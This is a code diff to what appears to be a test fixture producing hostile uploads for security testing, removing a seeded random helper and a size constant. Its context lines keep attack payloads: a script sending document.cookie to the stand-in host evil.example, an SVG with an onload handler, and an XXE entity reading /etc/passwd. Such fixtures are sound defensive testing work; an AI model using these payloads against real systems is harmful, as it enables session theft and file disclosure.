@@ -14,21 +14,9 @@ export interface HostileFile {
   readonly repeat?: number;
 }
 
-/** Numbers from 0 to 1 that are the same in every run (mulberry32). */
-export function randomOf(seed: number): () => number {
-  let state = seed;
-  return () => {
-    state = (state + 0x6d2b79f5) | 0;
-    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
-    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
-    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
-  };
-}
-
 const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>';
 const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
 const XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>';
-const TWO_HUNDRED_MEGABYTES = 200;
 
 /** With eight bytes changed: every upload differs from the others. */
 function changed(bytes: Buffer, random: () => number): Buffer {
@@ -49,7 +37,7 @@ export async function hostileFiles(): Promise<readonly HostileFile[]> {
     field,
     fileName: named('large.pdf'),
     bytes: () => megabyte,
-    repeat: TWO_HUNDRED_MEGABYTES,
+    repeat: 200,
   }));
   return [...hostileDocuments(jpeg), ...(await hostilePhotos(jpeg)), ...large];
 }
